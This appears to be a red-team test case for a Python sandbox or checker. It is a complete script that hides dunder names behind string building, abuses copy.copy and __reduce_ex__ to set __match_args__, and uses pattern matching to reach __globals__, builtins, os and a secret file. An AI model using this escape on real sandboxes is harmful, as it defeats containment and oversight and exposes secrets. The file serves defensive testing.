# family: red team, round 9 (simplenamespace_imported_init)
# SimpleNamespace imported by name: SimpleNamespace.__init__(ns, **runtime) (receiver resolves to IMPORTED)
# puts __reduce_ex__ in an instance dict; copy.copy then setattr()s run-time names on a class whose
# __match_args__ is written (so the class pattern rule is satisfied), and a class pattern reads __globals__.
import abc
import copy
from types import SimpleNamespace


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(protocol):
        return (lambda: target, (), (None, names))

    ns = SimpleNamespace()
    SimpleNamespace.__init__(ns, **{_d("reduce_ex"): reducer})
    copy.copy(ns)


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): lambda sub: True, _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
